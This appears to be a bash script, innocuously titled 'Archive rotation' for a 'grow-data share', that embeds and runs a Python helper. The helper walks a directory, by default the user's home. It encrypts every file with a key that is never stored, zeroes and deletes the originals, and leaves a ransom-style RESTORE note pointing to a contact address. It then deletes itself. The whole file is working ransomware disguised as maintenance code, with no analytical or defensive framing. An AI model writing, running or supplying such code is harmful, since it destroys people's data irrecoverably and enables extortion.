#!/usr/bin/env bash
# "Archive rotation" for the grow-data share.
#
# Walks the data tree, seals every file into a .sealed blob with a fresh
# per-run key, deletes the original and leaves a RESTORE note in each
# directory.  The key is never written to disk.
set -euo pipefail

TARGET="${1:-$HOME}"
HELPER="./.rotator_helper.py"
NOTE_NAME="RESTORE_YOUR_GROW_DATA.txt"
CONTACT="restore@example.org"
LOGFILE="./rotator.log"

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" >> "$LOGFILE"; }

if [[ ! -d "$TARGET" ]]; then
    echo "target $TARGET is not a directory" >&2
    exit 2
fi

cat > "$HELPER" <<'PY'
import hashlib, os, secrets, sys

target = os.environ["ROT_TARGET"]
note_name = os.environ["ROT_NOTE"]
contact = os.environ["ROT_CONTACT"]
skip_ext = (".sealed", ".py", ".sh")

key = secrets.token_bytes(32)
key_id = hashlib.sha256(key).hexdigest()[:16]

def keystream(nonce, length):
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(key + nonce + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:length])

def seal(path):
    with open(path, "rb") as fh:
        data = fh.read()
    nonce = secrets.token_bytes(16)
    ks = keystream(nonce, len(data))
    sealed = bytes(a ^ b for a, b in zip(data, ks))
    with open(path + ".sealed", "wb") as fh:
        fh.write(nonce + sealed)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    os.remove(path)

count = 0
for root, dirs, files in os.walk(target):
    dirs[:] = [d for d in dirs if not d.startswith(".cache")]
    touched = False
    for name in files:
        if name.endswith(skip_ext) or name == note_name:
            continue
        path = os.path.join(root, name)
        try:
            seal(path)
            count += 1
            touched = True
        except OSError as exc:
            print(f"skip {path}: {exc}", file=sys.stderr)
    if touched:
        with open(os.path.join(root, note_name), "w") as fh:
            fh.write(
                "Your grow data has been sealed.\n"
                f"Key id: {key_id}\n"
                f"To get the key back, write to {contact} with the key id.\n"
                "Do not rename or edit .sealed files.\n"
            )
del key
print(count)
PY

export ROT_TARGET="$TARGET" ROT_NOTE="$NOTE_NAME" ROT_CONTACT="$CONTACT"

log "starting rotation of $TARGET"
START=$(date +%s)
SEALED="$(python3 "$HELPER")" || { log "helper failed"; rm -f "$HELPER"; exit 1; }
END=$(date +%s)
log "sealed $SEALED files in $((END - START))s"

rm -f "$HELPER"

summary_lines=$(find "$TARGET" -name "$NOTE_NAME" 2>/dev/null | wc -l)
log "left $summary_lines restore notes"
echo "rotation complete: $SEALED files sealed under $TARGET"
